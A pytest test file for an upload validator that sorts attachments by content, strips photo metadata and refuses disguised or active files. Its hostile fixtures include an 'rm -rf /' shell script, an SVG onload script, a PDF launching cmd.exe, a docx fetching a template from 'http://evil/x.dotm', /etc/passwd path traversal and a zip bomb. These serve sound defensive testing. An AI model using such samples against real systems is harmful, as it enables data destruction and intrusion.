"""What a file is, is read from its content; what hides in it is found or left out.

A23: files that are something else than they say, or that run where they are opened.
"""

import io
import struct
import zipfile
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as some

from participation.consultations.attachments.kinds import MEDIA_TYPES, Kind, sorted_out
from participation.core.errors import Invalid
from tests.participation.consultations.attachments.files import (
    MACRO,
    PDF,
    TABLE,
    TEXT,
    chunk,
    docx,
    exif,
    jpeg,
    open_document,
    packed,
    png,
    segment,
    xlsx,
)


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PDF, Kind.PDF),
        (docx(), Kind.DOCX),
        (xlsx(), Kind.XLSX),
        (open_document("text"), Kind.ODT),
        (open_document("spreadsheet"), Kind.ODS),
        (png(), Kind.PNG),
        (jpeg(), Kind.JPEG),
        (TEXT, Kind.TEXT),
        (TABLE, Kind.CSV),
        (b"a;b\r\n1;2\r\n", Kind.CSV),
        (b"Satu baris, saja.", Kind.TEXT),
        ("\ufeffHarga: Rp5.000\n".encode(), Kind.TEXT),
    ],
)
def test_a_kind_is_found_by_content_alone(content, kind):
    found, kept = sorted_out(content)
    assert found is kind
    assert kept == content
    assert MEDIA_TYPES[found]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HOSTILE = {
    "svg": SVG,
    "svg behind blanks": b"\n\n  " + SVG,
    "xml": b'<?xml version="1.0"?><a/>',
    "html": b"<!doctype html><script>alert(1)</script>",
    "html behind a mark": b"\xef\xbb\xbf<html>",
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "windows program": b"MZ\x90\x00\x03\x00\x00\x00",
    "linux program": b"\x7fELF\x02\x01\x01\x00",
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
    "rtf": b"{\\rtf1\\ansi {\\object\\objdata}}",
    "postscript": b"%!PS-Adobe-3.0\n",
    "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00",
    "no utf-8": b"Harga: \xff\xfe\xfd",
    "zeros": b"\0" * 100,
    "escape codes": b"hello \x1b[2J",
    "pdf cut off": PDF[:-8],
    "pdf in name": b"%PDF-",
    "pdf with script": PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(x)>>"),
    "pdf that launches": PDF.replace(b"/Catalog", b"/Catalog/A<</S/Launch/F(cmd.exe)>>"),
    "pdf with files inside": PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 2 0 R>>"),
    "any zip": packed({"a.txt": "x"}),
    "empty zip": b"PK\x05\x06" + b"\0" * 18,
    "zip in name": b"PK\x03\x04",
    "java archive": packed({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe"}),
    "docm": docx(main=MACRO),
    "docx with macros": docx({"word/vbaProject.bin": b"x"}),
    "docx with controls": docx({"word/activeX/activeX1.xml": "<a/>"}),
    "docx with objects": docx({"word/embeddings/oleObject1.bin": b"MZ"}),
    "docx with entities": docx({"word/a.xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}),
    "docx with a template": docx(
        {
            "word/_rels/settings.xml.rels": '<Relationship Type="http://x/attachedTemplate"'
            ' Target="http://evil/x.dotm" TargetMode="External"/>'
        }
    ),
    "docx in name": packed({"word/document.xml": "<w/>"}),
    "docx that climbs": docx({"../../etc/passwd": "x"}),
    "docx from the root": docx({"/etc/passwd": "x"}),
    "odt with macros": open_document("text", {"Basic/Standard/Module1.xml": "<x/>"}),
    "odt with scripts": open_document("text", {"Scripts/python/x.py": "x"}),
    "odt without content": packed({"mimetype": "application/vnd.oasis.opendocument.text"}),
    "png cut off": png()[:-6],
    "png in name": b"\x89PNG\r\n\x1a\n",
    "png with a wrong sum": png()[:-1] + b"\0",
    "png too large": png(width=100_000, height=100_000),
    "png of no width": png(width=0),
    "png with a part nobody knows": png(chunk(b"ABCD", b"x")),
    "jpeg cut off": jpeg()[:-2],
    "jpeg in name": b"\xff\xd8\xff",
    "jpeg too large": jpeg(width=60_000, height=60_000),
    "jpeg without a picture": b"\xff\xd8" + segment(0xE0, b"JFIF\0") + b"\xff\xd9",
    "jpeg with a short frame": b"\xff\xd8" + segment(0xC0, b"\x08") + b"\xff\xd9",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_runs_lies_or_is_not_on_the_list_is_refused(name):
    with pytest.raises(Invalid) as refused:
        sorted_out(HOSTILE[name])
    assert refused.value.field == "file"


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    bomb = docx({"word/media/image1.bmp": b"\0" * 30_000_000})
    assert len(bomb) < 100_000
    with pytest.raises(Invalid) as refused:
        sorted_out(bomb)
    assert "too large" in str(refused.value)


def test_a_part_that_lies_about_its_size_is_found():
    honest = docx({"word/a.bin": b"A" * 5000})
    lying = honest.replace(struct.pack("<I", 5000), struct.pack("<I", 50))
    assert lying != honest
    with pytest.raises(Invalid):
        sorted_out(lying)


def test_thousands_of_parts_are_refused():
    with pytest.raises(Invalid):
        sorted_out(docx({f"word/{number}.xml": "" for number in range(3001)}))


def test_a_name_twice_in_a_package_is_refused():
    """Programs differ in which of the two they open."""
    made = io.BytesIO(docx())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(made, "a") as package:
        package.writestr("word/document.xml", "<other/>")
    with pytest.raises(Invalid):
        sorted_out(made.getvalue())


def test_a_locked_package_is_refused():
    locked = bytearray(docx())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = locked.find(magic)
        locked[place + offset] |= 1
    with pytest.raises(Invalid):
        sorted_out(bytes(locked))


def test_a_photo_keeps_its_picture_and_how_it_is_turned_and_tells_no_place():
    kind, kept = sorted_out(jpeg(exif(6), segment(0xFE, b"Budi, HP 0812"), segment(0xED, b"IPTC")))
    assert kind is Kind.JPEG
    for secret in (b"GPS", b"Melati", b"0812", b"IPTC"):
        assert secret not in kept
    assert b"Exif\0\0MM" in kept
    assert sorted_out(kept) == (Kind.JPEG, kept)


@pytest.mark.parametrize("orientation", [0, 1, 9, 65535])
def test_an_upright_photo_keeps_no_block_at_all(orientation):
    assert sorted_out(jpeg(exif(orientation)))[1] == jpeg()


@pytest.mark.parametrize(
    "broken", [b"Exif\0\0", b"Exif\0\0II*\0\xff\xff\xff\xff", b"Exif\0\0XX", b"Exif\0\0MM\0*\0\0"]
)
def test_a_broken_block_of_a_photo_is_left_out(broken):
    assert sorted_out(jpeg(segment(0xE1, broken)))[1] == jpeg()


def test_what_hides_behind_a_picture_is_left_out():
    """A picture that is a web page or an archive at the same time."""
    for whole, tail in ((jpeg(), packed({"a": "b"})), (png(), b"<script>alert(1)</script>")):
        assert sorted_out(whole + tail)[1] == whole


def test_words_in_a_png_are_left_out():
    noisy = png(chunk(b"tEXt", b"Author\0Budi"), chunk(b"eXIf", b"GPS"), chunk(b"tIME", b"1234567"))
    assert sorted_out(noisy) == (Kind.PNG, png())


MAGICS = [b"", b"%PDF-1.4", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"]


@given(some.binary(max_size=300))
@pytest.mark.parametrize("magic", MAGICS)
def test_whatever_comes_is_sorted_out_or_refused(magic, noise):
    with suppress(Invalid):
        kind, kept = sorted_out(magic + noise)
        assert sorted_out(kept) == (kind, kept)


@given(some.integers(0, 400), some.integers(0, 255))
def test_a_picture_with_one_wrong_byte_is_sorted_out_or_refused(place, byte):
    for whole in (jpeg(exif()), png(chunk(b"tEXt", b"x"))):
        wrong = bytearray(whole)
        wrong[place % len(wrong)] = byte
        try:
            kept = sorted_out(bytes(wrong))[1]
        except Invalid:
            continue
        assert b"Melati" not in kept
